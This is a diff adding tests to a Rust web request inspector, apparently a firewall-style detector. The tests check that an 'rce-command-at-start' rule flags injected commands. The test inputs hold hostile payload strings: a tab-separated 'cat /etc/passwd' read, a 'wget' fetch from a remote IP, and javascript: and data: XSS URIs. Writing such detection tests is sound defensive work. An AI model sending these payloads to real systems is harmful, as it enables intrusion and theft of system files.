@@ -494,6 +494,10 @@ mod tests {
             "/?u=j%20a%20v%20a%20s%20c%20r%20i%20p%20t%20:alert(1)",
             "/?u=javascript%26zwj;:alert(1)",
             "/?u=data%20:text/html,%3Cb%3Ehi",
+            // rce-command-at-start's literals are the white space before
+            // what follows its command.
+            "/?c=cat%09/etc/passwd&category=x",
+            "/?c=%20wget%0D%0Ahttp://203.0.113.9/x",
         ] {
             let request = get(uri);
             for options in [Options::default(), all.clone()] {
@@ -518,6 +522,13 @@ mod tests {
         ] {
             let v = inspect(&get(uri), &Options::default());
             assert!(v.rules.contains(&"xss-javascript-uri"), "{uri}: {v:?}");
+        }
+        for uri in [
+            "/?c=cat%09/etc/passwd&category=x",
+            "/?c=%20wget%0D%0Ahttp://203.0.113.9/x",
+        ] {
+            let v = inspect(&get(uri), &Options::default());
+            assert!(v.rules.contains(&"rce-command-at-start"), "{uri}: {v:?}");
         }
     }
 
